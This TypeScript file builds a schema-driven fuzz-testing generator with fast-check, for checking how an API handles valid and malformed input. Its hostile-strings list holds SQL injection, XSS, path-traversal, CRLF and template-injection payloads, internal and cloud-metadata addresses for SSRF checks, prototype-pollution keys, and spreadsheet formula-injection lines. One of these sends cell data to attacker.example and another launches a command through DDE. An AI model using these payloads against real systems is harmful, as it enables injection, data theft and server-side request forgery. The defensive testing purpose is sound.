import fc from 'fast-check';

/** The part of JSON Schema (draft 2020-12, as `z.toJSONSchema` writes it) the generator reads. */
export interface JsonSchema {
  type?: string | string[];
  const?: unknown;
  enum?: unknown[];
  anyOf?: JsonSchema[];
  oneOf?: JsonSchema[];
  allOf?: JsonSchema[];
  properties?: Record<string, JsonSchema>;
  required?: string[];
  additionalProperties?: boolean | JsonSchema;
  items?: JsonSchema;
  prefixItems?: JsonSchema[];
  minItems?: number;
  maxItems?: number;
  minLength?: number;
  maxLength?: number;
  pattern?: string;
  format?: string;
  minimum?: number;
  maximum?: number;
  exclusiveMinimum?: number;
  exclusiveMaximum?: number;
  default?: unknown;
}

/** Strings that have broken parsers, queries and pages elsewhere. */
export const HostileStrings = [
  '',
  ' ',
  '__proto__',
  'constructor',
  'toString',
  '../../../../etc/passwd',
  '%00',
  '\u0000',
  '\uFEFF',
  '\uD800',
  "' OR '1'='1' --",
  '"; drop table reports; --',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  '{{7*7}}${7*7}',
  'NaN',
  'Infinity',
  '-0',
  '1e400',
  '-9223372036854775809',
  '9007199254740993',
  'null',
  'true',
  '[]',
  '{}',
  '0x10',
  '1.5',
  '  42  ',
  '2026-02-30T25:61:61Z',
  '::ffff:127.0.0.1',
  // Internal addresses in the spellings a name field might take them.
  '127.0.0.1',
  '169.254.169.254',
  '10.0.0.1',
  '[::1]',
  '::1',
  '0x7f000001',
  '2130706433',
  '0177.0.0.1',
  '127.1',
  '::ffff:10.0.0.1',
  '[fe80::1%25eth0]',
  'localhost.',
  'metadata.google.internal',
  '999.1.1.1',
  '10.0.0.0/33',
  'AS4294967296',
  '𝕏𝕏𝕏🙂👩‍👩‍👧‍👦',
  'ｆｕｌｌｗｉｄｔｈ日本語テキスト中文繁體',
  '\r\nSet-Cookie: x=1',
  // Formulas a spreadsheet would run from a CSV cell (OWASP CSV injection).
  '=HYPERLINK("http://attacker.example/?"&A1,"Help")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  '\uFF1D1+1',
  '%E0%A4%A',
  'a'.repeat(300),
];

const hostileString = fc.constantFrom(...HostileStrings);

function bounded(min: number | undefined, max: number | undefined, cap: number) {
  const minLength = Math.min(min ?? 0, cap);
  return { minLength, maxLength: Math.max(minLength, Math.min(max ?? cap, cap)) };
}

const isoDates = fc
  .date({ min: new Date('2000-01-01T00:00:00Z'), max: new Date('2040-01-01T00:00:00Z'), noInvalidDate: true })
  .map((d) => d.toISOString());

function stringArb(s: JsonSchema): fc.Arbitrary<string> {
  if (s.pattern) {
    try {
      return fc.stringMatching(new RegExp(s.pattern));
    } catch {
      // a pattern JavaScript cannot compile: plain strings below
    }
  }
  switch (s.format) {
    case 'uuid':
    case 'guid':
      return fc.uuid();
    case 'email':
      return fc.emailAddress();
    case 'date-time':
      return isoDates;
    case 'date':
      return isoDates.map((d) => d.slice(0, 10));
    case 'uri':
    case 'url':
      return fc.webUrl();
    case 'ipv4':
      return fc.ipV4();
    case 'ipv6':
      return fc.ipV6();
  }
  return fc.string({ unit: 'binary', ...bounded(s.minLength, s.maxLength, 40) });
}

function numberArb(s: JsonSchema, integer: boolean): fc.Arbitrary<number> {
  const min = s.minimum ?? (s.exclusiveMinimum !== undefined ? s.exclusiveMinimum + 1 : undefined);
  const max = s.maximum ?? (s.exclusiveMaximum !== undefined ? s.exclusiveMaximum - 1 : undefined);
  if (integer) {
    const lo = Math.max(min ?? -1_000_000, Number.MIN_SAFE_INTEGER);
    const hi = Math.min(max ?? 1_000_000, Number.MAX_SAFE_INTEGER);
    return fc.integer({ min: Math.ceil(lo), max: Math.max(Math.ceil(lo), Math.floor(hi)) });
  }
  return fc.double({ min: min ?? -1e6, max: max ?? 1e6, noNaN: true, noDefaultInfinity: true });
}

function typesOf(s: JsonSchema): string[] {
  if (Array.isArray(s.type)) return s.type;
  if (s.type) return [s.type];
  if (s.properties) return ['object'];
  if (s.items || s.prefixItems) return ['array'];
  return [];
}

/** Values the schema accepts (as far as JSON Schema tells: refinements in code are not seen). */
export function validValue(s: JsonSchema, depth = 0): fc.Arbitrary<unknown> {
  if (s.const !== undefined) return fc.constant(s.const);
  if (s.enum) return fc.constantFrom(...s.enum);
  const alternatives = s.anyOf ?? s.oneOf;
  if (alternatives?.length) return fc.oneof(...alternatives.map((a) => validValue(a, depth)));
  if (s.allOf?.length) return validValue(Object.assign({}, ...s.allOf) as JsonSchema, depth);
  const types = typesOf(s);
  if (types.length === 0) return fc.jsonValue({ maxDepth: 1 });
  return fc.oneof(
    ...types.map((type): fc.Arbitrary<unknown> => {
      switch (type) {
        case 'string':
          return stringArb(s);
        case 'integer':
          return numberArb(s, true);
        case 'number':
          return numberArb(s, false);
        case 'boolean':
          return fc.boolean();
        case 'null':
          return fc.constant(null);
        case 'array': {
          if (s.prefixItems) return fc.tuple(...s.prefixItems.map((p) => validValue(p, depth + 1)));
          const item = s.items ? validValue(s.items, depth + 1) : fc.jsonValue({ maxDepth: 1 });
          return fc.array(item, bounded(s.minItems, s.maxItems, depth > 1 ? 2 : 4));
        }
        default:
          return objectArb(s, depth);
      }
    }),
  );
}

function objectArb(s: JsonSchema, depth: number): fc.Arbitrary<Record<string, unknown>> {
  const props = s.properties ?? {};
  const keys = Object.keys(props);
  if (keys.length === 0)
    return fc.dictionary(fc.string({ maxLength: 8 }), fc.jsonValue({ maxDepth: 0 }), { maxKeys: 2 });
  const model: Record<string, fc.Arbitrary<unknown>> = {};
  for (const k of keys) model[k] = validValue(props[k]!, depth + 1);
  return fc.record(model, { requiredKeys: (s.required ?? []).filter((k) => k in props) });
}

/** A value of some other JSON type than the schema asks for. */
const wrongType: fc.Arbitrary<unknown> = fc.oneof(
  fc.integer(),
  fc.double(),
  fc.boolean(),
  fc.constant(null),
  hostileString,
  fc.array(fc.integer(), { maxLength: 3 }),
  fc.dictionary(fc.string({ maxLength: 5 }), fc.integer(), { maxKeys: 2 }),
);

/** A string far beyond any field's limit (but within the request body limit). */
const oversized = fc
  .tuple(fc.constantFrom('a', '日', '🙂', '<'), fc.integer({ min: 1_000, max: 40_000 }))
  .map(([c, n]) => c.repeat(n));

/** A value of the schema with one thing wrong: the wrong type, too big, or a field missing or extra. */
export function mutatedValue(s: JsonSchema): fc.Arbitrary<unknown> {
  const object = typesOf(s).includes('object') && s.properties && Object.keys(s.properties).length > 0;
  const base = validValue(s);
  const mutations: fc.Arbitrary<unknown>[] = [wrongType, oversized, hostileString];
  if (object) {
    const keys = Object.keys(s.properties!);
    mutations.push(
      // one field dropped
      fc.tuple(base, fc.constantFrom(...keys)).map(([v, k]) => {
        const out = { ...(v as Record<string, unknown>) };
        delete out[k];
        return out;
      }),
      // one field with a hostile value
      fc
        .tuple(base, fc.constantFrom(...keys), fc.oneof(wrongType, oversized, hostileString))
        .map(([v, k, bad]) => ({
          ...(v as Record<string, unknown>),
          [k]: bad,
        })),
      // one field nested one level deeper with a mutated value
      fc.constantFrom(...keys).chain((k) =>
        fc.tuple(base, fc.constant(k), mutatedInner(s.properties![k]!)).map(([v, key, bad]) => ({
          ...(v as Record<string, unknown>),
          [key]: bad,
        })),
      ),
      // extra fields, prototype pollution included
      fc
        .tuple(base, fc.constantFrom('__proto__', 'constructor', 'extra', 'id', '$where'), wrongType)
        .map(([v, k, extra]) => {
          const out = { ...(v as object) };
          Object.defineProperty(out, k, {
            value: extra,
            enumerable: true,
            writable: true,
            configurable: true,
          });
          return out;
        }),
    );
  }
  if (typesOf(s).includes('array')) {
    mutations.push(
      fc.array(wrongType, { minLength: 1, maxLength: 3 }),
      fc.constant(Array.from({ length: 5000 }, () => 1)),
    );
  }
  return fc.oneof(...mutations);
}

function mutatedInner(s: JsonSchema): fc.Arbitrary<unknown> {
  const types = typesOf(s);
  if (types.includes('array') && s.items)
    return fc.array(mutatedValue(s.items), { minLength: 1, maxLength: 2 });
  return fc.oneof(wrongType, oversized, hostileString);
}

/** Mostly valid values, often with one thing wrong. */
export function fuzzValue(s: JsonSchema): fc.Arbitrary<unknown> {
  return fc.oneof({ arbitrary: validValue(s), weight: 2 }, { arbitrary: mutatedValue(s), weight: 3 });
}
